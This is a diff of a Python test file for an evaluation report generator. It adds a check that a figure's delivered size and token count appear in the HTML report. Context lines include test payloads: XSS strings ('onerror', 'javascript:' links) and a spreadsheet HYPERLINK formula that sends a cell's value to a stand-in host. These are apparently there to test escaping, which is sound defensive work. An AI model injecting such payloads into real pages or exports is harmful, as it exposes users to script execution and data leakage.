@@ -35,6 +35,7 @@ HOSTILE = [
     '<img src=x onerror="alert(3)">',
     "[click](javascript:alert(4)) **bold** $\\href{javascript:alert(5)}{x}$",
 ]
+FIGURES_SEEN = [{"sent": [4000, 3000], "reached": [1456, 1092], "tokens": 2028}]
 FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"script") '  # a formula, if a spreadsheet ran the CSV cell
 
 
@@ -75,6 +76,13 @@ def report(mirror, hf_home, tmp_path_factory):
             args = ["--model", "openai", "--model_args", openai_args(srv.base_url, model_version=f"fake-{salt}"), "--tasks", ",".join([*TASKS.values(), JUDGED]), "--output_path", str(out), "--log_samples"]
             run_cli(args, cli_env(mirror, hf_home), str(root))
         runs.append(str(out))
+    # run a's MSEarth doc 0 as an HF class would have logged it: the size its figure reached the model at
+    (path,) = glob.glob(os.path.join(runs[0], "**", "*_samples_msearth_mcq.jsonl"), recursive=True)
+    with open(path) as f:
+        rows = [json.loads(line) for line in f]
+    rows[0]["earthsci_figures"] = FIGURES_SEEN
+    with open(path, "w") as f:
+        f.writelines(json.dumps(r) + "\n" for r in rows)
     rep = root / "report"
     proc = forkserver.subprocess_run([os.path.join(VENV_BIN, "lmms-eval-earthsci"), "report", *runs, "--out", str(rep), "--resamples", "200"], env=cli_env(mirror, hf_home), capture_output=True, text=True, timeout=600)
     assert proc.returncode == 0, proc.stderr[-3000:]
@@ -528,3 +536,10 @@ def test_a_lost_layout_shows_a_banner_on_its_task(page):
     assert pg.query_selector("#layout-banner") is None
     pg.goto(f"file://{rep}/report.html")  # the module's page, as the other tests expect it
     pg.wait_for_selector("#match-count")
+
+
+def test_a_figures_size_as_it_reached_the_model_is_shown_under_its_run(page):
+    pg, _, _, runs, _ = page
+    open_task(pg, "msearth_mcq", "&doc=0")
+    shown = [p.inner_text() for p in pg.query_selector_all("article.doc .figures-seen")]
+    assert shown == ["figure 1 reached the model at 1456 x 1092 (sent 4000 x 3000), 2,028 visual tokens"], shown  # run a only: run b read none
